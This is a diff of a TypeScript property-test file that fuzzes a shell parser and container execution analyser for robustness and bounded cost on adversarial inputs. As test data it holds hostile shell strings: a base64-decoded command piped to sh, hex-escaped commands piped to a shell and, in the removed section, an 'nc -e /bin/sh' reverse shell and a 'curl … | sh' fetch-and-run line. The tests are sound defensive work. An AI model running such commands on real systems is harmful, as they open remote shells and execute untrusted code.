@@ -1,13 +1,13 @@
 /**
- * Property tests for the shell parser and the command model: arbitrary and mutated scripts never
- * throw and always return well-formed results; adversarial 1 MiB inputs stay bounded.
+ * Property tests for the shell parser and the execution model built on it: arbitrary and mutated
+ * scripts never throw and always give well-formed results; adversarial 1 MiB inputs stay bounded.
  */
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 
-import { buildCommandModel } from '../src/workload/command.js';
-import { MAX_NESTING, parseShell, parseWork } from '../src/workload/shell.js';
-import type { SimpleCommand } from '../src/workload/types.js';
+import { buildWorkload } from '../src/workload/build.js';
+import type { Execution } from '../src/workload/model.js';
+import { parseShell } from '../src/workload/parse.js';
 
 const TOKENS = [
   ' ',
@@ -139,47 +139,61 @@ const anyScript = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 40 }),
 );
 
-function expectWellFormed(command: SimpleCommand, minDepth: number): void {
-  expect(Array.isArray(command.argv)).toBe(true);
-  for (const arg of command.argv) expect(typeof arg).toBe('string');
-  expect(typeof command.program).toBe('string');
-  expect(command.depth).toBeGreaterThanOrEqual(minDepth);
-  expect(command.pipelinePosition).toBeGreaterThanOrEqual(0);
-  for (const redirect of command.redirects) {
-    expect(typeof redirect.op).toBe('string');
-    expect(typeof redirect.target).toBe('string');
+/** The execution model of a Job whose one container has this command, args and env. */
+function executionOf(command: unknown, args?: unknown, env: unknown[] = []): Execution {
+  const container = {
+    name: 'c',
+    image: 'alpine:3.20',
+    command,
+    ...(args === undefined ? {} : { args }),
+    env,
+  };
+  const workload = buildWorkload({
+    apiVersion: 'batch/v1',
+    kind: 'Job',
+    metadata: { name: 'x' },
+    spec: { template: { spec: { containers: [container] } } },
+  });
+  const execution = workload.containers[0]?.execution;
+  if (execution === undefined) throw new Error('no container');
+  return execution;
+}
+
+function expectWellFormed(execution: Execution): void {
+  for (const invocation of execution.invocations) {
+    expect(typeof invocation.program).toBe('string');
+    for (const word of invocation.words) expect(typeof word).toBe('string');
+    expect(Number.isInteger(invocation.depth) && invocation.depth >= 0).toBe(true);
   }
+  for (const text of [...execution.scripts, ...execution.limits, ...execution.problems])
+    expect(typeof text).toBe('string');
+  expect(execution.scripts.length).toBeLessThanOrEqual(100);
 }
 
 describe('shell parser fuzz', () => {
   it('parses 3,000 random and mutated scripts without throwing', () => {
     fc.assert(
       fc.property(anyScript, (script) => {
-        const result = parseShell(script, { depth: 1, origin: 'shell', env: new Map([['HOME', '/root']]) });
-        for (const command of result.commands) expectWellFormed(command, 1);
-        for (const problem of result.problems) expect(typeof problem).toBe('string');
-        expect(result.problems.every((problem) => !problem.startsWith('parser error'))).toBe(true);
+        const result = parseShell(script);
+        expect(Array.isArray(result.script.items)).toBe(true);
+        for (const text of [...result.limits, ...result.problems]) expect(typeof text).toBe('string');
       }),
       { numRuns: 3000 },
     );
   });
 
-  it('builds 2,000 command models from random containers without throwing', () => {
+  it('builds 1,000 execution models from random containers without throwing', () => {
     const item = fc.oneof(
       anyScript,
-      fc.constantFrom('sh', '-c', 'bash', '-ec', '$(X)', '$$(X)'),
-      fc.anything(),
+      fc.constantFrom('sh', '-c', 'bash', '-ec', '$(X)', '$$(X)', 'eval', 'nohup'),
+      // Manifests arrive as JSON or YAML: any JSON value, not JavaScript's undefined or functions.
+      fc.jsonValue(),
     );
     fc.assert(
       fc.property(fc.array(item, { maxLength: 4 }), fc.array(item, { maxLength: 3 }), (command, args) => {
-        const model = buildCommandModel({ command, args }, [
-          { name: 'X', value: 'echo aWQ= | base64 -d | sh', isReference: false },
-        ]);
-        expect(model.problems.every((problem) => !problem.startsWith('command analysis failed'))).toBe(true);
-        for (const command of model.commands) expectWellFormed(command, 0);
-        expect(model.commands.every((command) => command.depth <= 4 + MAX_NESTING)).toBe(true);
+        expectWellFormed(executionOf(command, args, [{ name: 'X', value: 'echo aWQ= | base64 -d | sh' }]));
       }),
-      { numRuns: 2000 },
+      { numRuns: 1000 },
     );
   });
 });
@@ -188,10 +202,10 @@ describe('adversarial inputs', () => {
   const MiB = 1024 * 1024;
   /**
    * The shape checks are the real assertions. The clock only catches a quadratic path: each of these
-   * inputs takes 0.05–0.5 s on an idle 2-core machine and several times that when the machine is
-   * busy, while a quadratic path over 1 MiB takes minutes.
+   * inputs takes well under a second on an idle 2-core machine and several times that when the
+   * machine is busy, while a quadratic path over 1 MiB takes minutes.
    */
-  const GENEROUS_MS = 10_000;
+  const GENEROUS_MS = 20_000;
   const fill = (unit: string): string => unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);
 
   it.each([
@@ -221,97 +235,39 @@ describe('adversarial inputs', () => {
     ['process substitutions', fill('<(')],
     ['tests', fill('[[ ')],
     ['functions', fill('f() { ')],
-  ])('%s: 1 MiB stays bounded', (_name, script) => {
+  ])('%s: 1 MiB parses within bounds', (_name, script) => {
     const started = performance.now();
-    const result = parseShell(script, { depth: 0, origin: 'shell' });
+    const result = parseShell(script);
     const elapsed = performance.now() - started;
-    expect(result.commands.length).toBeLessThanOrEqual(50_000);
-    expect(result.problems.length).toBeLessThanOrEqual(51);
-    expect(result.problems.every((problem) => !problem.startsWith('parser error'))).toBe(true);
-    expect(Math.max(0, ...result.commands.map((command) => command.depth))).toBeLessThanOrEqual(
-      MAX_NESTING + 1,
-    );
+    expect(result.limits.length + result.problems.length).toBeLessThanOrEqual(100);
     expect(elapsed).toBeLessThan(GENEROUS_MS);
   });
 
+  // Smaller than the parser's table: the executor runs what it parses (every `eval`, every nested
+  // `sh -c`), and at 64 KiB `eval eval …` alone takes about 30 s on a busy 2-core machine.
+  const fill16 = (unit: string): string =>
+    unit.repeat(Math.ceil((16 * 1024) / unit.length)).slice(0, 16 * 1024);
   it.each([
-    ['nested sh -c', fill("sh -c '")],
+    ['nested sh -c', fill16("sh -c '")],
     [
       'echo | base64 -d chains',
-      fill(`echo ${Buffer.from('echo aWQ= | base64 -d | sh').toString('base64')} | base64 -d | sh;`),
+      fill16(`echo ${Buffer.from('echo aWQ= | base64 -d | sh').toString('base64')} | base64 -d | sh;`),
     ],
-    ['printf formats', `printf '${fill('%s')}' ${fill('a ')}`],
-    ['cat chains', `echo id ${fill('| cat ')} | sh`],
-    ['eval strings', fill('eval ')],
-    ['echo flags', `echo ${fill('-e ')} '\\x69\\x64' | sh`],
-    ['environment per eval', fill('eval x;')],
-  ])('%s: 1 MiB command model stays bounded', (_name, script) => {
+    ['printf formats', `printf '${fill16('%s')}' ${fill16('a ')}`],
+    ['cat chains', `echo id ${fill16('| cat ')} | sh`],
+    ['eval strings', fill16('eval ')],
+    ['echo flags', `echo ${fill16('-e ')} '\\x69\\x64' | sh`],
+    ['environment per eval', fill16('eval x;')],
+  ])('%s: 16 KiB execution model stays bounded', (_name, script) => {
     const started = performance.now();
-    // A large environment: every nested script (each `eval`) must not cost its size again.
-    const env = Array.from({ length: 10_000 }, (_, i) => ({ name: `V${i}`, value: 'x', isReference: false }));
-    const model = buildCommandModel({ command: ['sh', '-c', script] }, env);
+    // An environment of 100 variables that every nested script (each `eval`) inherits.
+    const env = Array.from({ length: 100 }, (_, i) => ({ name: `V${i}`, value: 'x' }));
+    const execution = executionOf(['sh', '-c', script], undefined, env);
     const elapsed = performance.now() - started;
-    expect(model.problems.every((problem) => !problem.startsWith('command analysis failed'))).toBe(true);
-    expect(model.decoded.reduce((total, payload) => total + payload.text.length, 0)).toBeLessThanOrEqual(
-      256 * 1024,
-    );
-    expect(model.scripts.reduce((total, text) => total + Math.min(text.length, MiB), 0)).toBeLessThanOrEqual(
-      4 * MiB,
-    );
+    expectWellFormed(execution);
+    expect(
+      execution.scripts.reduce((total, text) => total + Math.min(text.length, MiB), 0),
+    ).toBeLessThanOrEqual(2 * MiB);
     expect(elapsed).toBeLessThan(GENEROUS_MS);
-  });
-});
-
-describe('work against input size', () => {
-  const KiB = 1024;
-  const fill = (unit: string, bytes: number): string =>
-    unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
-  /** Characters the parser examined to build the command model of `sh -c script`. */
-  function work(script: string): number {
-    const before = parseWork.characters;
-    buildCommandModel({ command: ['sh', '-c', script] }, []);
-    return parseWork.characters - before;
-  }
-
-  /**
-   * No clock: the parser counts the characters it examines, and 16 times the input must cost at most
-   * about 16 times the work. A path that rescans the rest of the script per token fails by far.
-   */
-  it.each([
-    '(',
-    '$(',
-    '$(a ',
-    '${',
-    '"',
-    "'",
-    '\\',
-    '`',
-    '`\\`\\\\\\`',
-    "$'\\",
-    '<<A\n',
-    '<<A ',
-    'case a in a) ',
-    'if then ',
-    'a;',
-    'a|',
-    '2>&1 ',
-    'A=1 ',
-    'A=$A$A ',
-    'a',
-    '$((',
-    '<(',
-    '[[ ',
-    'f() { ',
-    '#',
-    '\\x41',
-    'nc -e /bin/sh 1.2.3.4 1 ; ',
-    'curl http://x/|sh;',
-    "sh -c '",
-    'eval ',
-    "printf '\\x69\\x64' | sh;",
-  ])('%j: 16 times the input is at most 16 times the work', (unit) => {
-    const small = work(fill(unit, 16 * KiB));
-    const large = work(fill(unit, 256 * KiB));
-    expect(large).toBeLessThanOrEqual(16 * small * 1.05 + 1000);
   });
 });
